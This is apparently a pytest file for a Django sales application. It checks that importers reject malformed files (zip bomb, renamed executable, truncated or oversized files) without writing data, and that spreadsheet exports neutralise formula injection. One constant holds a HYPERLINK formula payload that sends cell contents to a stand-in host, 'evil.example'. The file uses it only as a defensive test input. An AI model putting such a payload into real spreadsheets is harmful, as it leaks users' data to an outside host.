"""R4 Bad files (issue 12): every malformed file of ``salesdesk.core.testing.badfiles`` against every
importer it applies to (customers, products, targets, opening balances, bank statements, finance's
AR sub-ledger). Each one is answered with a clear error (Chinese first, naming the rows where rows
are at fault) — never an exception other than the refusal, never a hang — and writes nothing:
the importers' tables hold the same number of rows before and after. The bank-statement and
sub-ledger imports keep the good lines of a file by design (their own tests say so); for them the
bad line is reported and is not among the rows written.

Then formula injection: a customer named ``=HYPERLINK(...)`` comes out as text in the customer
list export and the sales report export."""

from __future__ import annotations

import io
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import date, timedelta

import openpyxl
import pytest
from django.utils import timezone

from salesdesk.core.errors import InvalidInput
from salesdesk.core.testing import badfiles
from salesdesk.core.testing.personas import PASSWORD
from salesdesk.customers.tests.factories import CustomerFactory

pytestmark = pytest.mark.django_db

TIME_LIMIT = 10.0  # seconds for any one bad file, the zip bomb and the 50 MB file included
TODAY = timezone.localdate()
OPENING_AS_OF = date(2026, 10, 31)
TARGET_MONTH = date(2026, 10, 1)
LONG = "长" * 5000
TIMINGS: dict[str, float] = {}


@dataclass
class Outcome:
    refused: str = ""  # the message of a refusal of the whole file
    errors: list[tuple[int, str]] = field(default_factory=list)  # (Excel row, message) of row problems

    @property
    def rows(self) -> set[int]:
        return {row for row, _ in self.errors}

    @property
    def text(self) -> str:
        return self.refused + " ".join(m for _, m in self.errors)


@dataclass
class Importer:
    name: str
    header: list[str]
    good: Callable[[dict], list[list]]  # three good rows: two for Excel rows 2 and 3, one to spoil as row 4
    run: Callable[[dict, bytes, str], Outcome]
    models: Callable[[], list]
    required: int  # the column a row cannot do without
    number: int  # a money column
    text: int  # a free-text column
    date: int | None = None
    csv: bool = True  # reads CSV and .xls as well as .xlsx
    keeps_good_rows: bool = False  # imports a file's good lines and reports the bad ones
    negative_is_valid: bool = False


def _refusal(exc: InvalidInput) -> str:
    return " ".join(str(m) for messages in exc.errors.values() for m in messages) or str(exc.message)


def _runner(call: Callable[[dict, bytes, str], Outcome]) -> Callable[[dict, bytes, str], Outcome]:
    def run(personas, data, filename):
        try:
            return call(personas, data, filename)
        except InvalidInput as exc:
            return Outcome(refused=_refusal(exc))
    return run


def _customers_run(personas, data, filename):
    from salesdesk.customers.importing import import_customers

    result = import_customers(actor=personas["manager"], source=data, filename=filename, dry_run=False)
    return Outcome(errors=[(e.row, f"{e.column}：{e.message}") for e in result.errors])


def _customers_models():
    from salesdesk.customers.models import Contact, Customer

    return [Customer, Contact]


def _products_run(personas, data, filename):
    from salesdesk.catalog.importing import import_products

    result = import_products(actor=personas["clerk"], source=data)
    return Outcome(errors=[(e.row, f"{e.column}：{e.message}") for e in result.errors])


def _products_models():
    from salesdesk.catalog.models import LevelPrice, Product

    return [Product, LevelPrice]


def _targets_run(personas, data, filename):
    from salesdesk.team.importing import import_targets

    preview, _saved = import_targets(actor=personas["clerk"], month=TARGET_MONTH, data=data)
    return Outcome(errors=[(r.row, "；".join(r.errors)) for r in preview.rows if r.errors])


def _targets_models():
    from salesdesk.team.models import SalesTarget

    return [SalesTarget]


def _opening_run(personas, data, filename):
    from salesdesk.finance.opening import import_opening

    result = import_opening(actor=personas["finance"], data=data, filename=filename, as_of=OPENING_AS_OF)
    return Outcome(errors=[(e.row, f"{e.column}：{e.message}") for e in result.check.errors])


def _opening_models():
    from salesdesk.finance.models import OpeningBalance, OpeningImport, Receivable
    from salesdesk.ledger.models import Fact

    return [OpeningBalance, OpeningImport, Receivable, Fact]


def _statement_run(personas, data, filename):
    from salesdesk.finance.importing import import_statement

    outcome = import_statement(actor=personas["finance"], data=data, filename=filename)
    return Outcome(errors=list(outcome.errors))


def _statement_models():
    from salesdesk.finance.models import BankStatementLine

    return [BankStatementLine]


def _ledger_run(personas, data, filename):
    from salesdesk.finance import monthend
    from salesdesk.ledger.periods import month_of, previous_month

    period = previous_month(month_of(TODAY))
    outcome = monthend.import_finance_ledger(actor=personas["clerk"], period=period, data=data, filename=filename)
    return Outcome(errors=list(outcome.errors))


def _ledger_models():
    from salesdesk.finance.models import FinanceLedgerLine

    return [FinanceLedgerLine]


def _two_customers(personas) -> list:
    return [CustomerFactory(salesperson=personas["sales1"], name=f"坏文件测试客户{i}有限公司") for i in (1, 2, 3)]


IMPORTERS = [
    Importer("customers", ["客户名称", "负责业务员", "结算方式", "信用额度", "账期天数", "联系人", "联系电话", "备注"],
             lambda p: [["杭州甲乙机电有限公司", "sales1", "月结", "50000", "30", "王建国", "13800138000", "老客户"],
                        ["宁波丙丁贸易有限公司", "sales1", "月结", "80000", "30", "李小红", "13900139000", ""],
                        ["温州戊己五金有限公司", "sales1", "月结", "60000", "30", "张伟", "13700137000", ""]],
             _runner(_customers_run), _customers_models, required=0, number=3, text=0),
    Importer("products", ["产品编码", "品名", "单位", "标准价(含税)", "税率"],
             lambda p: [["BAD-001", "抗磨液压油", "桶", "1130", "13%"], ["BAD-002", "齿轮油", "桶", "980", "13%"],
                        ["BAD-003", "润滑脂", "桶", "560", "13%"]],
             _runner(_products_run), _products_models, required=0, number=3, text=1, csv=False),
    Importer("targets", ["范围", "业务员账号", "销售目标(含税)", "回款目标", "备注"],
             lambda p: [["业务员", "sales1", "300000", "200000", ""], ["业务员", "sales3", "250000", "150000", ""],
                        ["业务员", "sales2", "200000", "100000", ""]],
             _runner(_targets_run), _targets_models, required=1, number=2, text=4, csv=False),
    Importer("opening", ["客户编号或名称", "类型", "单据号", "金额", "原始日期"],
             lambda p: [[c.code, "应收", f"QC-{i}", "1200.00", "2026-09-15"] for i, c in enumerate(_two_customers(p))],
             _runner(_opening_run), _opening_models, required=0, number=3, text=2, date=4),
    Importer("statement", ["交易日期", "对方户名", "收入金额", "流水号", "摘要"],
             lambda p: [["2026-11-02", "杭州甲乙机电有限公司", "5000.00", "SN-1", "货款"],
                        ["2026-11-03", "宁波丙丁贸易有限公司", "8000.00", "SN-2", "货款"],
                        ["2026-11-04", "温州戊己五金有限公司", "6000.00", "SN-3", "货款"]],
             _runner(_statement_run), _statement_models, required=0, number=2, text=1, date=0, keeps_good_rows=True),
    Importer("ledger", ["客户编码", "期末余额"],
             lambda p: [[c.code, "1200.00"] for c in _two_customers(p)],
             _runner(_ledger_run), _ledger_models, required=0, number=1, text=0, keeps_good_rows=True,
             negative_is_valid=True),
]


# --- the bad files ------------------------------------------------------------------------------------


@dataclass
class BadFile:
    """``build(importer, header, good rows)`` → (bytes, filename, rows that must be named or None
    when the file is refused as a whole, a word the message must contain)."""

    name: str
    build: Callable
    applies: Callable[[Importer], bool] = lambda imp: True


def _with_row(imp: Importer, good: list[list], column: int, value) -> list[list]:
    bad = list(good[2])
    bad[column] = value
    return [imp.header, *good[:2], bad]


def _xlsx_or_csv(imp: Importer, table) -> tuple[bytes, str]:
    return badfiles.xlsx(table), "file.xlsx"


_CACHE: dict[str, bytes] = {}


def _cached(key: str, make: Callable[[], bytes]) -> bytes:
    if key not in _CACHE:
        _CACHE[key] = make()
    return _CACHE[key]


def _xls(imp: Importer, table) -> bytes | None:
    key = f"xls:{imp.name}"
    if key not in _CACHE:
        tables = {imp.name: table}
        _CACHE.update({f"xls:{k}": v for k, v in badfiles.legacy_xls(tables).items()})
    return _CACHE.get(key)


def _missing_column(imp, good):
    table = [[c for i, c in enumerate(r) if i != imp.required] for r in [imp.header, *good[:2]]]
    return badfiles.xlsx(table), "missing.xlsx", None, ""


def _renamed_column(imp, good):
    header = list(imp.header)
    header[imp.required] = "栏目X"
    return badfiles.xlsx([header, *good[:2]]), "renamed.xlsx", None, ""


def _bad_date(imp, good):
    return badfiles.xlsx(_with_row(imp, good, imp.date, "2025-13-45")), "date.xlsx", {4}, "2025-13-45"


def _text_in_number(imp, good):
    return badfiles.xlsx(_with_row(imp, good, imp.number, "一百元")), "number.xlsx", {4}, ""


def _gbk_csv(imp, good):
    data = badfiles.csv_bytes(_with_row(imp, good, imp.number, "壹佰元整"), "gbk")
    return data, "gbk.csv", ({4} if imp.csv else None), ("壹佰元整" if imp.csv else "")


def _formula(imp, good):
    table = _with_row(imp, good, imp.number, None)
    column = "ABCDEFGHIJ"[imp.number]
    return badfiles.xlsx(table, formulas={f"{column}4": "=1/0"}), "formula.xlsx", {4}, "=1/0" if imp.csv else ""


def _merged_cells(imp, good):
    table = [imp.header, *[list(r) for r in good]]
    column = "ABCDEFGHIJ"[imp.required]
    return badfiles.xlsx(table, merge=[f"{column}3:{column}4"]), "merged.xlsx", {4}, ""


def _size_50mb(imp, good):
    data = _cached("50mb", lambda: badfiles.huge(50, head=",".join(imp.header).encode() + b"\r\n"))
    return data, "big.csv" if imp.csv else "big.xlsx", None, "MB"


def _zip_bomb(imp, good):
    return _cached("bomb", badfiles.zip_bomb), "bomb.xlsx", None, ""


def _rows_200k(imp, good):
    data = _cached(f"200k:{imp.name}", lambda: badfiles.big_xlsx(imp.header, good[1], 200_000))
    return data, "200k.xlsx", None, ""


def _duplicate_rows(imp, good):
    return badfiles.xlsx([imp.header, *good[:2], list(good[1])]), "dup.xlsx", {4}, "3"


def _empty(imp, good):
    return badfiles.empty(), "empty.xlsx", None, "空"


def _executable(imp, good):
    return badfiles.executable(), "setup.xlsx", None, ""


def _legacy_xls(imp, good):
    data = _xls(imp, _with_row(imp, good, imp.number, "一百元"))
    if data is None:
        pytest.skip("LibreOffice is not installed: no .xls can be made")
    return data, "old.xls", ({4} if imp.csv else None), ""


def _password(imp, good):
    return badfiles.password_protected(), "locked.xlsx", None, ""


def _header_only(imp, good):
    return badfiles.xlsx([imp.header]), "header.xlsx", None, ""


def _hidden_row(imp, good):
    table = _with_row(imp, good, imp.number, "一百元")
    return badfiles.xlsx(table, hidden_rows=[4]), "hidden.xlsx", {4}, ""


def _long_text(imp, good):
    return badfiles.xlsx(_with_row(imp, good, imp.text, LONG)), "long.xlsx", {4}, ""


def _negative(imp, good):
    return badfiles.xlsx(_with_row(imp, good, imp.number, "-100")), "negative.xlsx", {4}, ""


def _future_date(imp, good):
    later = (TODAY + timedelta(days=400)).isoformat()
    return badfiles.xlsx(_with_row(imp, good, imp.date, later)), "future.xlsx", {4}, ""


def _html(imp, good):
    return badfiles.html_as_xls([imp.header, *good[:2]]), "web.xls", None, ""


def _truncated(imp, good):
    return badfiles.truncated(badfiles.xlsx([imp.header, *good[:2]] * 50)), "cut.xlsx", None, ""


def _garbage(imp, good):
    return bytes(range(256)) * 64, "noise.csv", None, ""


BAD_FILES = [
    BadFile("missing_column", _missing_column),
    BadFile("renamed_column", _renamed_column),
    BadFile("bad_date", _bad_date, lambda imp: imp.date is not None),
    BadFile("text_in_number", _text_in_number),
    BadFile("gbk_csv", _gbk_csv),
    BadFile("formula_cell", _formula),
    BadFile("merged_cells", _merged_cells),
    BadFile("size_50mb", _size_50mb),
    BadFile("zip_bomb", _zip_bomb),
    BadFile("rows_200k", _rows_200k),
    BadFile("duplicate_rows", _duplicate_rows),
    BadFile("empty_file", _empty),
    BadFile("exe_renamed_xlsx", _executable),
    BadFile("legacy_xls", _legacy_xls),
    BadFile("password_protected", _password),
    BadFile("header_only", _header_only),
    BadFile("hidden_row", _hidden_row),
    BadFile("very_long_text", _long_text),
    BadFile("negative_amount", _negative, lambda imp: not imp.negative_is_valid),
    BadFile("future_date", _future_date, lambda imp: imp.date is not None),
    BadFile("html_as_xls", _html),
    BadFile("truncated_xlsx", _truncated),
    BadFile("binary_noise", _garbage),
]

CASES = [pytest.param(imp, bad, id=f"{imp.name}-{bad.name}") for bad in BAD_FILES for imp in IMPORTERS
         if bad.applies(imp)]


def _counts(imp: Importer) -> dict[str, int]:
    return {model.__name__: model.objects.count() for model in imp.models()}


def _has_chinese(text: str) -> bool:
    return any("\u4e00" <= ch <= "\u9fff" for ch in text)


@pytest.mark.parametrize(("imp", "bad"), CASES)
def test_a_bad_file_is_answered_clearly_quickly_and_writes_nothing(imp, bad, personas):
    good = imp.good(personas)
    data, filename, rows, word = bad.build(imp, good)
    before = _counts(imp)

    started = time.perf_counter()
    outcome = imp.run(personas, data, filename)
    elapsed = time.perf_counter() - started
    TIMINGS[f"{imp.name}-{bad.name}"] = elapsed

    assert elapsed < TIME_LIMIT, f"{elapsed:.1f} s"
    assert outcome.refused or outcome.errors, "a bad file was accepted without a word"
    assert _has_chinese(outcome.text), outcome.text[:300]
    assert word in outcome.text, outcome.text[:300]
    if rows is not None:
        assert not outcome.refused, outcome.refused
        assert rows <= outcome.rows, (outcome.errors[:5], rows)
    after = _counts(imp)
    if imp.keeps_good_rows and not outcome.refused:
        main = imp.models()[0].__name__
        assert after[main] - before[main] <= 2, (before, after)  # the bad line is not among them
    else:
        assert after == before


def test_the_slowest_bad_file_is_reported():
    """Prints the figure for docs/reliability.md (run after the cases above)."""
    if not TIMINGS:
        pytest.skip("run with the parametrized cases")
    slowest = max(TIMINGS, key=TIMINGS.get)
    print(f"\nR4 bad files: {len(TIMINGS)} cases, slowest {slowest} {TIMINGS[slowest]:.2f} s")


def test_every_importer_meets_at_least_twenty_bad_files():
    for imp in IMPORTERS:
        assert sum(bad.applies(imp) for bad in BAD_FILES) >= 20, imp.name


# --- formula injection in exports ---------------------------------------------------------------------

INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'


@pytest.fixture
def as_user(client, personas):
    def login(username):
        assert client.login(username=username, password=PASSWORD)
        return client
    return login


def _cells(content: bytes) -> list:
    """Every cell of every sheet as openpyxl reads it without computing: a formula would come back
    as its text with data type "f"."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_neutralised(content: bytes) -> None:
    cells = _cells(content)
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula was written"
    hits = [c.value for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert hits and all(v.startswith("'=") for v in hits), hits


def test_the_customer_list_export_writes_a_formula_like_name_as_text(as_user, personas):
    CustomerFactory(salesperson=personas["sales1"], name=INJECTION)

    response = as_user("clerk").get("/customers/?export=xlsx")

    assert response.status_code == 200
    _assert_neutralised(response.content)


def test_the_sales_report_export_writes_a_formula_like_customer_as_text(as_user, personas):
    from salesdesk.catalog.tests.factories import CategoryFactory, ProductFactory
    from salesdesk.ledger.choices import FactKind
    from salesdesk.reports.tests.factories import fact

    customer = CustomerFactory(salesperson=personas["sales1"], name=INJECTION)
    fact(personas["clerk"], FactKind.BOOKED, date(2026, 11, 15), "1000", customer=customer,
         product=ProductFactory(category=CategoryFactory()))

    response = as_user("clerk").get("/reports/sales.xlsx?period=month&date=2026-11-15&group_by=customer")

    assert response.status_code == 200
    _assert_neutralised(response.content)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1"])
def test_safe_cell_neutralises_every_formula_prefix(text):
    from salesdesk.core.exports import safe_cell

    assert safe_cell(text) == "'" + text


def test_the_targets_template_writes_a_formula_like_note_as_text(personas):
    from decimal import Decimal

    from salesdesk.team import importing, services

    services.save_month_targets(actor=personas["clerk"], month=TARGET_MONTH, entries=[services.TargetEntry(
        "salesperson", Decimal("1000.00"), Decimal("500.00"), salesperson_id=personas["sales1"].pk, team_id=None,
        note=INJECTION)], reason="test")

    content = importing.template_workbook(TARGET_MONTH, personas["clerk"])

    _assert_neutralised(content)
